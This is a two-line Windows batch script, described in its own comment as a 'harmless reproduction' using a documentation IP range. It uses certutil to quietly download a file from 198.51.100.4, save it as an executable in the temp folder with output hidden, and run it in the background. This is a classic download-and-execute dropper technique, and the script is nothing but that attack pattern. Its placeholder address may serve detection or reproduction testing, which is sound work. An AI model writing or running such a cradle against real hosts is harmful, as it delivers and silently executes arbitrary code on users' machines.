@echo off
rem Harmless reproduction: 198.51.100.0/24 is a documentation range.
certutil -urlcache -split -f http://198.51.100.4/u.txt %TEMP%\u.exe >nul 2>&1
start /b "" %TEMP%\u.exe
